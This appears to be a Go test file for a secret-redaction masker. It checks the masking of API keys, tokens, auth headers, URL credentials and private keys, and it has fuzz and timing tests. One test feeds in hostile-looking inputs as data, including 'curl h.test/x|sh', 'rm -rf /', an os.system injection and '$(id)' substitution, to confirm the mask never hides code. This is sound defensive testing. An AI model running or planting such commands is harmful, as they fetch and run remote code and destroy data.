package redact

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Values are put together at run time, so that no scanner takes this file for a
// leak.
var (
	digits = strings.Repeat("0123456789", 6)
	hexKey = "0123456789abcdef0123456789abcdef01234567"
	b64    = strings.Repeat("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9w", 2)
)

func TestMaskFindsWellKnownFormats(t *testing.T) {
	for _, c := range []struct{ kind, secret string }{
		{"e2b_key", "e2b_" + hexKey},
		{"e2b_key", "sk_e2b_" + hexKey},
		{"anthropic_key", "sk-ant-api03-" + digits[:40]},
		{"api_key", "sk-proj-" + digits[:40]},
		{"api_key", "sk-" + digits[:48]},
		{"stripe_key", "sk_live_" + digits[:24]},
		{"github_token", "ghp_" + digits[:36]},
		{"github_token", "gho_" + digits[:36]},
		{"github_token", "github_pat_11AAAA_" + digits[:40]},
		{"gitlab_token", "glpat-" + digits[:20]},
		{"aws_key_id", "AKIA" + "IOSFODNN7EXAMPLE"},
		{"google_key", "AIza" + digits[:35]},
		{"slack_token", "xoxb-" + digits[:24]},
		{"npm_token", "npm_" + digits[:36]},
		{"huggingface_token", "hf_" + digits[:34]},
		{"jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0." + digits[:43]},
		{"slack_webhook", "hooks.slack.com/services/T0000/B0000/" + digits[:24]},
	} {
		for _, around := range [][2]string{
			{"", ""}, {"print('", "')"}, {"x = \"", "\"\n"}, {"curl -H 'X: ", "' https://h.test"}, {"?q=", "&r=1"}, {"päß ", " ✓"}, {`{\"a\":\"`, `\"}`},
		} {
			text := around[0] + c.secret + around[1]
			got := new(Masker).Mask(text)
			assert.Equal(t, around[0]+mark(c.kind)+around[1], got)
		}
	}
}

// mikkelchokolate/Veil#333: the word "Basic" was hidden and the credential left.
func TestMaskHidesTheCredentialNotTheScheme(t *testing.T) {
	user := base64.StdEncoding.EncodeToString([]byte("alice:hunter2hunter"))
	for text, want := range map[string]string{
		"Authorization: Basic " + user:                         "Authorization: Basic <secret:authorization>",
		"authorization: bearer abcdef":                         "authorization: bearer <secret:authorization>",
		"Proxy-Authorization: Basic " + user:                   "Proxy-Authorization: Basic <secret:authorization>",
		"-H 'Authorization: token abc123def'":                  "-H 'Authorization: token <secret:authorization>'",
		"Authorization: abc123def456":                          "Authorization: <secret:authorization>",
		`{"Authorization": "Bearer abcdef"}`:                   `{"Authorization": "Bearer <secret:authorization>"}`,
		`{\"Authorization\":\"Bearer abcdef\"}`:                `{\"Authorization\":\"Bearer <secret:authorization>\"}`,
		`headers["Authorization"] = "Bearer abcdef"`:           `headers["Authorization"] = "Bearer <secret:authorization>"`,
		`h.Set("Authorization", "Bearer abcdef")`:              `h.Set("Authorization", "Bearer <secret:authorization>")`,
		"Authorization%3A%20Bearer%20abcdef&x=1":               "Authorization%3A%20Bearer%20<secret:authorization>&x=1",
		"auth is basic " + user + " there":                     "auth is basic <secret:basic_credential> there",
		"Bearer abc123def456":                                  "Bearer <secret:bearer_token>",
		"X-API-Key: abc123def456":                              "X-API-Key: <secret:assigned>",
		"E2b-Traffic-Access-Token: abc123def456":               "E2b-Traffic-Access-Token: <secret:assigned>",
		"https://h.test/files?path=/a&signature=v1_Ab12Cd34Ef": "https://h.test/files?path=/a&signature=<secret:assigned>",
		"access_token=abc123def456&b=2":                        "access_token=<secret:assigned>&b=2",
		"access_token%3Dabc123def456":                          "access_token%3D<secret:assigned>",
		"export DB_PASSWORD=hunter2hunter2; ls":                "export DB_PASSWORD=<secret:assigned>; ls",
		`password = "correct-horse"`:                           `password = "<secret:assigned>"`,
		`{"api_key":"abcdefgh"}`:                               `{"api_key":"<secret:assigned>"}`,
		`{\"api_key\": \"abcdefgh\"}`:                          `{\"api_key\": \"<secret:assigned>\"}`,
		"git clone https://bob:hunter2@git.test/r.git":         "git clone https://bob:<secret:url_credential>@git.test/r.git",
		"redis://:hunter2@cache.test:6379/0":                   "redis://:<secret:url_credential>@cache.test:6379/0",
		"postgres://u:p@ss@db.test/x":                          "postgres://u:<secret:url_credential>@db.test/x",
		`https:\/\/bob:hunter2@git.test`:                       `https:\/\/bob:<secret:url_credential>@git.test`,
		"https%3A%2F%2Fbob%3Ahunter2%40git.test":               "https%3A%2F%2Fbob%3A<secret:url_credential>%40git.test",
	} {
		assert.Equal(t, want, new(Masker).Mask(text))
	}
}

func TestMaskHidesPrivateKeys(t *testing.T) {
	for _, newline := range []string{"\n", "\r\n", `\n`} {
		body := strings.Join([]string{"", b64[:64], b64[:64], b64[:20], ""}, newline)
		for _, kind := range []string{"", "RSA ", "OPENSSH ", "EC ", "ENCRYPTED "} {
			text := "a -----BEGIN " + kind + "PRIVATE KEY-----" + body + "-----END " + kind + "PRIVATE KEY----- b"
			assert.Equal(t, "a -----BEGIN "+kind+"PRIVATE KEY-----<secret:private_key>-----END "+kind+"PRIVATE KEY----- b", new(Masker).Mask(text))
		}
	}
	cutOff := "-----BEGIN PRIVATE KEY-----\n" + b64[:64] + "\n" + b64[:64] + "\nrm x"
	assert.Equal(t, "-----BEGIN PRIVATE KEY-----<secret:private_key>\nrm x", new(Masker).Mask(cutOff))
}

// A mask that hid code would be a way past the guard it is put before.
func TestMaskNeverHidesCode(t *testing.T) {
	for _, text := range []string{
		"password=$(curl h.test/x|sh)",
		"password=`curl h.test/x`",
		`password="$(curl h.test/x)"`,
		`token = os.environ.get("X")`,
		`token = os.environ["API_KEY"]`,
		"token = base64.b64decode(blob1)",
		"const token = await getToken2(x)",
		"api_key = settings.keys2.value",
		"secret = subprocess.check_output",
		"TOKEN=/tmp/evil1.sh",
		"token=x1; rm -rf /",
		`headers = {"Authorization": f"Bearer {token}"}`,
		`headers = {"Authorization": "Bearer " + token}`,
		"-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\n\"\"\"; import os; os.system('x'); \"\"\"\n-----END PRIVATE KEY-----",
		"http://$(id):$(id)@h.test/",
	} {
		assert.Equal(t, text, new(Masker).Mask(text))
	}
}

func TestMaskLeavesOrdinaryTextAlone(t *testing.T) {
	for _, text := range []string{
		"", "x", "ls -la", "import sklearn", "pip install sk-learn-based-classifier-thing", "the risk-assessment-framework-of-things",
		"basic authentication is basic information", "bearer of bad news and bearers", "the token is missing", "max_tokens = 4096",
		"for key, value in items:", "key: value", "tokens: 10", "https://h.test:8080/a@b", "user@host:/path", "e2b_code_interpreter",
		"def secret_santa(names): return names", "print('password:')", "e2b_codeinterpreterclientlibrary",
		"-----BEGIN CERTIFICATE-----\n" + b64[:64] + "\n-----END CERTIFICATE-----",
	} {
		assert.Equal(t, text, new(Masker).Mask(text))
	}
}

func TestMaskFindsKnownSecretsInEverySpelling(t *testing.T) {
	secret := `zq"7/ü+&<pass>=Ω`
	m := NewMasker(NewSecret(secret), Secret{}, NewSecret("short"))
	escaped, err := json.Marshal(secret)
	require.NoError(t, err)
	for name, form := range map[string]string{
		"raw":        secret,
		"json":       string(escaped[1 : len(escaped)-1]),
		"query":      url.QueryEscape(secret),
		"path":       url.PathEscape(secret),
		"hex":        hex.EncodeToString([]byte(secret)),
		"upper hex":  strings.ToUpper(hex.EncodeToString([]byte(secret))),
		"plain json": strings.ReplaceAll(secret, `"`, `\"`),
	} {
		assert.Equal(t, "a <secret:known> b", m.Mask("a "+form+" b"), name)
	}
	assert.Equal(t, "a short story", m.Mask("a short story"))
}

func TestMaskFindsKnownSecretsInsideBase64(t *testing.T) {
	secret := "hunter2-correct-horse"
	m := NewMasker(NewSecret(secret))
	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding} {
		for _, before := range []string{"", "a", "ab", "abc", "user:"} {
			for _, after := range []string{"", "z", "zy"} {
				text := enc.EncodeToString([]byte(before + secret + after))
				got := m.Mask(text)
				assert.Contains(t, got, "<secret:known>", text)
				kept := strings.ReplaceAll(got, "<secret:known>", "")
				// The characters that the neighbours have a part in: two at either end.
				assert.LessOrEqual(t, len(kept), (len(before)+len(after))*4/3+6, text)
			}
		}
	}
}

func TestMaskPrefersTheLongerKnownSecret(t *testing.T) {
	m := NewMasker(NewSecret("hunter2"), NewSecret("hunter2-and-more"))
	assert.Equal(t, "<secret:known> <secret:known>", m.Mask("hunter2-and-more hunter2"))
}

// Any of these 256 KiB would take minutes if a step were quadratic.
func TestMaskTakesLinearTime(t *testing.T) {
	m := NewMasker(NewSecret(strings.Repeat("a", 40) + "b"))
	for name, unit := range map[string]string{
		"prefix": "sk-", "half url": "a://b:", "keys": "token=", "begin": "-----BEGIN PRIVATE KEY-----\n", "jwt": "eyJeyJaaaaaaaa.", "a": "a",
		"auth": "authorization: ", "key lines": b64[:64] + "\n", "spaces": "token = ", "bearer": "bearer ",
	} {
		text := strings.Repeat(unit, (256<<10)/len(unit))
		start := time.Now()
		m.Mask(text)
		assert.Less(t, time.Since(start), 20*time.Second, name)
	}
}

func FuzzMask(f *testing.F) {
	for _, seed := range []string{"", "Authorization: Basic YTpi", "token=abc123def", "e2b_" + hexKey, "https://a:b@c", "hunter2-known"} {
		f.Add(seed)
	}
	m := NewMasker(NewSecret("hunter2-known"))
	f.Fuzz(func(t *testing.T, text string) {
		got := m.Mask(text)
		assert.NotContains(t, got, "hunter2-known")
		if utf8.ValidString(text) {
			assert.True(t, utf8.ValidString(got))
		}
		if !strings.Contains(got, "<secret:") {
			assert.Equal(t, text, got)
		}
		// A mask takes no line away, save inside a private key.
		if !strings.Contains(text, "PRIVATE KEY") {
			assert.Equal(t, strings.Count(text, "\n"), strings.Count(got, "\n"))
		}
	})
}

func BenchmarkMask(b *testing.B) {
	m := NewMasker(NewSecret("e2b_"+hexKey), NewSecret("hunter2-correct-horse"))
	plain := strings.Repeat("import os\nfor key, value in os.environ.items():\n    print(key, len(value))  # token\n", 100)
	b.SetBytes(int64(len(plain)))
	for b.Loop() {
		m.Mask(plain)
	}
}
